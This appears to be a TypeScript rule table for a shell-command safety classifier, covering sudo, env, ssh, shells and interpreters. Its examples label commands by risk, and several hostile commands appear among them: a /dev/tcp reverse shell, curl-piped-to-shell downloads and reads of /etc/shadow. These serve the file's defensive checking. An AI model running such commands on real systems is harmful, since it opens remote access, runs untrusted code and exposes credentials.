/** Argument table: commands that run other commands, and interpreters. */
import { codeActs } from '../code.ts';
import type { Call, Table } from '../table.ts';

export const wrappers = (): Table => ({
  'sudo doas': {
    does: 'runs as another user',
    level: 'read_only',
    options:
      '-u: -g: -n -S -k -H -E -b -P -A -C: -p: -T: -h: -r: -t: -U: --user= --group= --non-interactive --preserve-env[=] --set-home --stdin --background',
    modes: {
      '-l --list': 'read_only',
      '-V --version': 'read_only',
      // They end, or begin, the time in which sudo asks for no password.
      '-v --validate -K --remove-timestamp': 'modifying',
      '-e --edit': 'destructive',
    },
    effects: {
      '-i --login -s --shell': { does: 'starts a shell', level: 'destructive' },
      '-R: -D: --chroot= --chdir=': { does: 'runs in another root', level: 'destructive' },
    },
    inner: { as: 'words', assignments: true },
    examples: {
      'sudo systemctl status x': 'read_only',
      'sudo rm x': 'destructive',
      'sudo -u www ls': 'read_only',
      'sudo -i': 'destructive',
      'sudo -s rm x': 'destructive',
      'sudo -l': 'read_only',
      'sudo -e /etc/x': 'destructive',
      'sudo -R /x ls': 'destructive',
      'sudo PATH=/x ls': 'destructive',
      sudo: 'destructive',
      'sudo -v': 'modifying',
      'sudo -K': 'modifying',
      'sudo -V': 'read_only',
    },
  },
  env: {
    does: 'sets variables for a command',
    level: 'read_only',
    options: '-i --ignore-environment -u: --unset= -0 --null -',
    effects: {
      '-S: --split-string=': { does: 'splits a text into a command', level: 'destructive' },
      '-C: --chdir=': { does: 'moves to a folder', level: 'read_only', value: 'folder' },
    },
    inner: { as: 'words', assignments: true, bare: 'read_only' },
    check: (call) => {
      if (call.words.every((word) => word.prefix.startsWith('-') || /^\w+=/.test(word.prefix)))
        call.raise('dump', 'shows the environment', 'read_only', 'sensitive_read');
    },
    examples: {
      env: 'read_only sensitive_read',
      'env | grep PATH': 'read_only sensitive_read',
      'env LC_ALL=C ls': 'read_only',
      'env rm x': 'destructive',
      "env -S 'rm x'": 'destructive',
      'env LD_PRELOAD=/x ls': 'destructive',
      'env -i ls': 'read_only',
      'env -C / ls': 'read_only',
      'env LC_ALL=C': 'read_only sensitive_read',
    },
  },
  'nohup setsid time ionice nice stdbuf unbuffer chronic caffeinate catchsegv linux32 linux64 i386 x86_64 setarch': {
    does: 'runs a command',
    level: 'read_only',
    options:
      '-n: -c: -p: -t -f -w -i: -o: -e: -v -P: -u: --adjustment= --class= --classdata= --pid= --fork --wait --portability --verbose --format= -# --ctty --input= --error= --output=',
    inner: { as: 'words' },
    check: timeWrites,
    examples: {
      'nohup ls': 'read_only',
      'nice -n 10 rm x': 'destructive',
      'nice -10 ls': 'read_only',
      'ionice -c3 rm x': 'destructive',
      'stdbuf -oL tail -f x': 'read_only',
      '/usr/bin/time -o x ls': 'destructive',
      'setsid -f rm x': 'destructive',
    },
  },
  'timeout gtimeout': {
    does: 'runs a command for a limited time',
    level: 'read_only',
    options: '-k: -s: -v -f -p --kill-after= --signal= --preserve-status --foreground --verbose',
    inner: { as: 'words', after: 1 },
    examples: { 'timeout 5 ls': 'read_only', 'timeout -k 1 5s rm x': 'destructive', 'timeout 5 bash': 'destructive' },
  },
  taskset: {
    does: 'runs a command on chosen processors',
    level: 'read_only',
    ordered: true,
    options: '-a -c -p --all-tasks --cpu-list --pid',
    operands: 'text',
    check: judgeAffinity,
    examples: {
      'taskset -p 12': 'read_only',
      'taskset -cp 12': 'read_only',
      'taskset -p 1 12': 'modifying',
      'taskset 1 rm x': 'destructive',
      'taskset -c 0,1 ls': 'read_only',
      'taskset 1': 'destructive',
    },
  },
  flock: {
    does: 'runs a command under a lock',
    level: 'modifying',
    ordered: true,
    options:
      '-s -x -e -n -u -o -F -w: -E: --shared --exclusive --nonblock --unlock --close --timeout= --wait= --conflict-exit-code=',
    operands: 'text',
    check: judgeLock,
    examples: {
      'flock /tmp/x rm y': 'destructive',
      'flock -n /tmp/x ls': 'modifying',
      "flock /tmp/x -c 'rm y'": 'destructive',
      "flock -w 5 /tmp/x -c 'ls; uptime'": 'modifying',
      'flock -n 9': 'modifying',
      'flock /tmp/x $command': 'destructive',
    },
  },
  chrt: {
    does: 'shows or changes how a process is scheduled',
    level: 'read_only',
    ordered: true,
    options: '-a --all-tasks -v --verbose -m --max -p --pid -h -V',
    effects: {
      '-o --other -f --fifo -r --rr -b --batch -i --idle -d --deadline -T: --sched-runtime= -P: --sched-period= -D: --sched-deadline= -R --reset-on-fork -e --ext':
        { does: 'changes how a process is scheduled', level: 'modifying' },
    },
    operands: 'text',
    check: judgeScheduling,
    examples: {
      'chrt -p 1': 'read_only',
      'chrt -m': 'read_only',
      'chrt -p 50 1': 'modifying',
      'chrt --ext 1 ls': 'modifying',
      'chrt 1 rm x': 'destructive',
      'chrt 1 touch x -p': 'destructive',
    },
  },
  numactl: {
    does: 'runs a command on chosen memory',
    level: 'read_only',
    options:
      '-a --all -i: --interleave= -m: --membind= -N: --cpunodebind= -C: --physcpubind= -l --localalloc -p: --preferred= -P: --preferred-many= -b --balancing -w: --weighted-interleave=',
    modes: { '-s --show -H --hardware': 'read_only' },
    inner: { as: 'words' },
    examples: {
      'numactl --hardware': 'read_only',
      'numactl -s': 'read_only',
      'numactl -N 0 ls': 'read_only',
      'numactl touch x --show': 'destructive',
      'numactl --file x': 'destructive',
    },
  },
  prlimit: {
    does: 'shows or sets limits',
    level: 'read_only',
    ordered: true,
    options:
      '--noheadings -o: --output= -p: --pid= --raw --verbose -h -V -c? --core[=] -d? --data[=] -e? --nice[=] -f? --fsize[=] -i? --sigpending[=] -l? --memlock[=] -m? --rss[=] -n? --nofile[=] -q? --msgqueue[=] -r? --rtprio[=] -s? --stack[=] -t? --cpu[=] -u? --nproc[=] -v? --as[=] -x? --locks[=] -y? --rttime[=]',
    operands: 'text',
    check: judgeLimits,
    examples: {
      'prlimit --pid 1': 'read_only',
      'prlimit --pid 1 --nofile': 'read_only',
      'prlimit --pid 1 --nofile=1': 'modifying',
      'prlimit -n1:2 ls': 'read_only',
      'prlimit halt -p': 'destructive',
    },
  },
  setpriv: {
    does: 'runs a command with other rights',
    level: 'destructive',
    options: '-V -h',
    modes: { '-d --dump --list-caps': 'read_only' },
    inner: { as: 'words' },
    examples: {
      'setpriv --dump': 'read_only',
      'setpriv halt --dump': 'destructive',
      'setpriv --reuid=1 ls': 'destructive',
    },
  },
  cgexec: {
    does: 'runs a command in a control group',
    level: 'destructive',
    options: '-g:',
    inner: { as: 'words' },
    examples: { 'cgexec -g cpu:x ls': 'destructive' },
  },
  watch: {
    does: 'runs a command again and again',
    level: 'read_only',
    options:
      '-n: --interval= -d? --differences[=] -t --no-title -b --beep -c --color -g --chgexit -p --precise -w --no-wrap -e --errexit -q: -x --exec',
    inner: { as: 'shell' },
    examples: { 'watch -n1 df -h': 'read_only', "watch 'ls; rm x'": 'destructive', 'watch rm x': 'destructive' },
  },
  chroot: {
    does: 'runs a command in another root',
    level: 'destructive',
    options: '--userspec= --groups= --skip-chdir',
    inner: { as: 'words', after: 1 },
    examples: { 'chroot /mnt ls': 'destructive', 'chroot /mnt': 'destructive' },
  },
  nsenter: {
    does: 'runs a command in the namespaces of a process',
    level: 'read_only',
    options: '-t: --target= -n? --net[=] -m? --mount[=] -u? --uts[=] -i? --ipc[=] -p? --pid[=] -U? -C? -a --all -F',
    effects: {
      '-r? --root[=] -w? --wd[=] -S: -G: --preserve-credentials': {
        does: 'changes root or user',
        level: 'destructive',
      },
    },
    inner: { as: 'words' },
    examples: {
      'nsenter -t 1 -n ss -tln': 'read_only',
      'nsenter -t 1 -m rm x': 'destructive',
      'nsenter -t 1 -a': 'destructive',
      'nsenter -r -t 1 ls': 'destructive',
    },
  },
  'unshare firejail proot fakeroot fakechroot torify torsocks proxychains proxychains4 script scriptreplay rlwrap expect screen tmux byobu zellij start-stop-daemon daemonize tini dumb-init su-exec gosu capsh pkexec run0 sg newgrp login toybox':
    {
      does: 'runs a command or a shell in another way',
      level: 'destructive',
      check: (call) => {
        if (call.input.kind === 'pipe') call.hidden('runs its input');
        judgeRest(call);
      },
      examples: { 'tmux new -d rm': 'destructive', 'pkexec ls': 'destructive' },
    },
  'su runuser': {
    does: 'runs as another user',
    level: 'read_only',
    options: '-l --login -c: --command= -s: --shell= -m -p -f -g: -G: --session-command= -u:',
    operands: 'text',
    check: judgeSu,
    examples: {
      "su - postgres -c 'ls'": 'read_only',
      "su -c 'rm x'": 'destructive',
      su: 'destructive',
      'su - root': 'destructive',
      'su -c "$x"': 'destructive',
      'runuser -u www -- ls': 'destructive',
    },
  },
  'ssh slogin': {
    does: 'runs a command on another machine',
    level: 'read_only',
    flag: 'egress',
    options: '-p: -l: -i: -q -v -4 -6 -T -t -n -x -a -k -C -c: -m: -b: -B: -e: -I: -Q:',
    effects: {
      '-o:': { does: 'sets an ssh option, which may run a program', level: 'destructive' },
      '-F: -E: -S: -W: -w: -D: -L: -R: -J: -O: -M -f -g -y -Y -X -K -G -V -s -N -A': {
        does: 'forwards, proxies, shares or reads configuration',
        level: 'destructive',
      },
    },
    inner: { as: 'shell', after: 1 },
    examples: {
      'ssh db uptime': 'read_only egress',
      "ssh db 'rm x'": 'destructive egress',
      'ssh db': 'destructive egress',
      'ssh -o ProxyCommand=x db ls': 'destructive egress',
      'ssh -L 1:a:2 db ls': 'destructive egress',
      'ssh db "$x"': 'destructive egress',
      'ssh -p 22 a@db df -h': 'read_only egress',
    },
  },
  busybox: {
    does: 'runs one of its tools',
    level: 'read_only',
    modes: { '--list --list-full': 'read_only' },
    inner: { as: 'words', bare: 'read_only' },
    examples: {
      'busybox ls': 'read_only',
      'busybox rm x': 'destructive',
      'busybox sh': 'destructive',
      'busybox --list': 'read_only',
    },
  },
  'sh bash dash ash zsh ksh mksh fish csh tcsh rbash rzsh': {
    does: 'runs a shell',
    level: 'read_only',
    style: 'plain',
    operands: 'text',
    check: judgeShell,
    examples: {
      "sh -c 'ls'": 'read_only',
      "bash -c 'rm x'": 'destructive',
      bash: 'destructive',
      'bash x.sh': 'destructive',
      'curl x | sh': 'forbidden egress',
      'sh -c "$(curl -s x)"': 'forbidden egress',
      'cat x | sh': 'destructive',
      "bash -lc 'ls'": 'read_only',
      'bash -c "$x"': 'destructive',
      "bash <<'E'\nls\nE": 'read_only',
      "bash <<'E'\nrm x\nE": 'destructive',
      'bash <<< "rm x"': 'destructive',
      'bash <(curl x)': 'forbidden egress',
      'bash -i >& /dev/tcp/1.2.3.4/5 0>&1': 'destructive egress',
      "bash -c 'cat $0' /etc/shadow": 'read_only sensitive_read',
      "sh -c 'ls; $0 x' rm": 'destructive',
      'bash --rcfile x -c ls': 'destructive',
      'bash --version': 'read_only',
      'bash --init-file x -ic ls': 'destructive',
      'bash -O expand_aliases -c ls': 'destructive',
      "fish -c 'ls'": 'destructive',
    },
  },
  'python python2 python3 pypy pypy3 perl ruby node nodejs deno bun php lua luajit tclsh wish julia R Rscript ghci scala groovy jshell java osascript pwsh powershell irb ipython jython guile racket sbcl erl elixir iex ocaml raku swipl octave':
    {
      does: 'runs a program',
      level: 'read_only',
      style: 'plain',
      operands: 'text',
      check: judgeInterpreter,
      examples: {
        'python3 --version': 'read_only',
        'python3 x.py': 'destructive',
        'python3 -c \'import os; os.remove("x")\'': 'destructive',
        'curl x | python3': 'forbidden egress',
        'python3 -m json.tool x.json': 'read_only',
        'python3 -m http.server': 'destructive',
        'cat x | perl': 'destructive',
        'perl -e \'unlink "x"\'': 'destructive',
        'python3 -c \'import json,sys; print(json.load(sys.stdin)["a"])\'': 'read_only',
        "python3 -c 'print(1+1)'": 'read_only',
        'java -version': 'read_only',
        'node -v': 'read_only',
        "perl -pi -e 's/a/b/' x": 'destructive',
        python3: 'destructive',
        'java -jar x.jar': 'destructive',
      },
    },
  'bc dc': {
    does: 'computes',
    level: 'read_only',
    options: '-l -q -s -w --mathlib --quiet --standard',
    effects: { '-e: --expression= -f: --file=': { does: 'runs an expression', level: 'read_only', value: 'reads' } },
    operands: 'reads',
    check: (call) => {
      if (call.rule === 'dc') call.raise('shell', 'can run shell commands by `!`', 'destructive');
    },
    examples: {
      "echo '1+1' | bc -l": 'read_only',
      'dc -e x': 'destructive',
      'bc -f /etc/shadow': 'read_only sensitive_read',
    },
  },
});

/** From the first word that is no option on: what it runs may be worse than running something. */
function judgeRest(call: Call): void {
  const from = call.words.findIndex((word) => !word.prefix.startsWith('-'));
  if (from >= 0) call.judgeWords(call.words.slice(from));
}

/** `taskset MASK command`, or `taskset -p [MASK] PID`. */
function judgeAffinity(call: Call): void {
  const from = call.words.findIndex((word) => !word.prefix.startsWith('-'));
  const rest = from < 0 ? [] : call.words.slice(from);
  if (call.options.some((option) => option.name === '-p' || option.name === '--pid')) {
    if (rest.length !== 1) call.raise('process', 'moves another process to other processors', 'modifying');
  } else if (rest.length > 1) call.judgeWords(rest.slice(1));
  else call.raise('bare', 'runs nothing readable', 'destructive');
}

/** `chrt -p PID` asks; `chrt -p PRIORITY PID` and `chrt PRIORITY command` change. */
function judgeScheduling(call: Call): void {
  const has = (pattern: RegExp) => call.options.some((option) => pattern.test(option.name));
  const rest = call.operands[0] ? call.words.slice(call.words.indexOf(call.operands[0])) : [];
  if (has(/^(?:-p|--pid)$/)) {
    if (rest.length !== 1) call.raise('process', 'changes how a process is scheduled', 'modifying');
  } else if (rest.length > 1) call.judgeWords(rest.slice(1));
  else if (!has(/^(?:-m|--max|-h|-V)$/)) call.raise('bare', 'runs nothing readable', 'destructive');
}

/** With a process it shows or sets that one's limits; else it runs a command. */
function judgeLimits(call: Call): void {
  const process = call.options.some((option) => /^(?:-p|--pid)$/.test(option.name));
  const sets = call.options.some((option) => !/^-(?:p|o|-pid|-output)$/.test(option.name) && option.value?.text);
  const rest = call.operands[0] ? call.words.slice(call.words.indexOf(call.operands[0])) : [];
  if (process && sets) call.raise('process', 'changes the limits of a process', 'modifying');
  if (rest.length > 0) call.judgeWords(rest);
}

/** `flock FILE command`, `flock FILE -c TEXT`, or `flock DESCRIPTOR`. */
function judgeLock(call: Call): void {
  const file = call.operands[0];
  const inner = file ? call.words.slice(call.words.indexOf(file) + 1) : [];
  const [first, second] = inner;
  if (first === undefined) return;
  if (!/^(?:-c|--command)$/.test(first.text)) call.judgeWords(inner);
  else if (second) call.judgeScript(second);
  else call.raise('bare', 'starts an interactive shell', 'destructive');
}

/** GNU time and ionice share letters; `time -o` writes a file, `ionice -p` changes another process. */
function timeWrites(call: Call): void {
  const output = call.options.find((option) => option.name === '-o' || option.name === '--output');
  if (call.rule === 'time' && output?.value) call.use(output.value, 'overwrites');
  if (call.rule === 'ionice' && call.options.some((option) => /^-(?:p|P|u|-pid)$/.test(option.name)))
    call.raise('process', 'changes the priority of another process', 'modifying');
}

function judgeSu(call: Call): void {
  const at = call.words.findIndex((word) => /^(?:-\w*c|--command)$/.test(word.text));
  const attached = call.words.find((word) => word.prefix.startsWith('--command='));
  const script = at >= 0 ? call.words[at + 1] : undefined;
  if (call.rule === 'runuser' && at < 0) {
    call.raise('runs', 'runs a command as another user', 'destructive');
    return;
  }
  if (attached) {
    call.raise('command', 'runs a command as another user', 'destructive');
    return;
  }
  if (script) call.judgeScript(script);
  else call.raise('shell', 'starts a shell as another user', 'destructive');
}

/** `-c TEXT` is judged; a file, standard input or a terminal is not written here. */
function judgeShell(call: Call): void {
  const posix = /^(?:sh|bash|dash|ash|zsh|ksh|mksh|rbash)$/.test(call.rule.split('.').at(-1) ?? '');
  if (call.words.some((word) => /^--(?:rcfile|init-file)|^[-+]\w*O/.test(word.text)) || !posix) {
    call.hidden('runs what its own files say');
    return;
  }
  const at = call.words.findIndex((word) => /^-\w*c$/.test(word.text));
  const firstOperand = call.words.findIndex((word) => !word.prefix.startsWith('-') && !word.prefix.startsWith('+'));
  if (
    at >= 0 &&
    (firstOperand < 0 ||
      at < firstOperand ||
      call.words.slice(0, at).every((word) => /^[-+]|^pipefail$/.test(word.text)))
  ) {
    const text = call.words.slice(at + 1).find((word) => !/^-\w/.test(word.text));
    if (text === undefined) {
      call.hidden('runs nothing readable');
      return;
    }
    call.judgeScript(text);
    for (const word of call.words.slice(call.words.indexOf(text) + 1)) call.use(word, 'reads');
    return;
  }
  if (call.words.some((word) => !word.literal)) {
    call.hidden('runs a script');
    return;
  }
  if (
    call.operands.length > 0 &&
    call.operands[0]?.text !== '-' &&
    !call.words.some((word) => /^-\w*s$/.test(word.text))
  ) {
    call.hidden('runs a script');
    return;
  }
  if (call.input.kind === 'text' && call.input.text?.literal) call.judgeScript(call.input.text);
  else if (call.input.kind === 'nothing') call.raise('interactive', 'starts an interactive shell', 'destructive');
  else call.hidden('runs its input');
}

/** `python3 -m json.tool [options] [in [out]]`: a second operand is written. */
function judgeModule(call: Call): void {
  const rest = call.words.slice(2);
  let operands = 0;
  for (const [index, word] of rest.entries()) {
    if (rest[index - 1]?.text === '--indent') continue;
    if (
      word.literal &&
      /^--(?:no-ensure-ascii|json-lines|compact|sort-keys|tab|no-indent|indent(?:=\d+)?)$/.test(word.text)
    )
      continue;
    operands++;
    if (word.prefix.startsWith('-') || operands > 1)
      call.raise('output', 'may write a file', 'destructive', null, word);
    else call.use(word, 'reads');
  }
}

/** One-liners in a small harmless subset are reads; everything else is unknown code. */
function judgeInterpreter(call: Call): void {
  const texts = call.words.map((word) => word.text);
  const name = call.rule.split('.').at(-1) ?? '';
  if (
    texts.length === 1 &&
    /^(?:-v|-V|-version|--versions?|--help|-h)$/.test(texts[0] ?? '') &&
    !(name === 'perl' && texts[0] === '-h')
  )
    return;
  if (
    /^python|^pypy/.test(name) &&
    texts[0] === '-m' &&
    /^(?:json\.tool|calendar|this|platform|sysconfig)$/.test(texts[1] ?? '')
  ) {
    judgeModule(call);
    return;
  }
  const code = call.words[1];
  if (/^python3?$|^pypy/.test(name) && texts[0] === '-c' && code?.literal && !codeActs(code.text)) {
    for (const word of call.words.slice(2)) call.use(word, 'reads');
    return;
  }
  call.hidden(`runs ${name} code`);
}
